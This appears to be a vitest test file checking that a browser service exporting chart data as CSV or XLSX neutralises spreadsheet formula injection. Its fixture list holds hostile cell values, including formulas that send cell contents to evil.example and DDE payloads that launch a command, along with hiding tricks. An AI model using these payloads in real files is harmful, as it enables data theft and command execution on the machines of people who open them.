import { read, utils } from '@e965/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { dataFile } from '@/services/browser/dataFile';

/** Cells that a spreadsheet program would run: formulas, commands through DDE, and what hides them. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Ver")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u2003@SUM(A1)',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '=',
  '+',
  '--1',
  '=1+1";=2+2;"',
  '=1,=2',
  '=\u0000cmd',
];

/** Text that only looks like it, and must arrive as it is. */
const harmless = ['-3', '+3', '-12.5', '1,234', '-15 %', '007', 'a=b', 'x@y', 'a-b', '', '2026-11-21', '3+4'];

/** Whether a program that opens the file would take the cell for a formula: what the first sign says, and SheetJS. */
const runs = (text: string) =>
  /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(text) && !/^\s*[+-]?[\d.,]+\s*%?$/.test(text);

const table = (cells: readonly string[]) =>
  Papa.unparse([['Planta', 'Nota'], ...cells.map((cell) => ['MTY', cell])]);
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace('\ufeff', ''), { skipEmptyLines: true })
    .data.slice(1)
    .map(([, cell = '']) => cell);

describe('the data of a visual as a file', () => {
  it('holds no cell that runs as a formula, as CSV', async () => {
    const { blob } = await dataFile(table(hostile), 'csv', 'Datos');
    const cells = cellsOf(await blob.text());
    expect(cells).toHaveLength(hostile.length);
    expect(cells.filter(runs)).toEqual([]);
  });

  it('holds none as a spreadsheet: each is text', async () => {
    const { blob } = await dataFile(table(hostile), 'xlsx', 'Datos');
    const book = read(await blob.arrayBuffer(), { cellFormula: true });
    const sheet = book.Sheets.Datos ?? {};
    const cells = Object.entries(sheet).filter(([key]) => /^B\d+$/.test(key) && key !== 'B1');
    expect(cells).toHaveLength(hostile.length);
    expect(cells.filter(([, cell]) => cell.f !== undefined || cell.t !== 's')).toEqual([]);
  });

  it('keeps what only looks like one', async () => {
    const { blob } = await dataFile(table(harmless), 'csv', 'Datos');
    expect(cellsOf(await blob.text())).toEqual(harmless);
  });

  it('and without the care each of them would run', () => {
    expect(cellsOf(table(hostile)).filter(runs)).toHaveLength(hostile.length);
    const naive = read(table(['=1+1']), { type: 'string', cellFormula: true });
    expect(utils.sheet_to_formulae(naive.Sheets[naive.SheetNames[0] ?? ''] ?? {})).toContain('B2=1+1');
  });
});
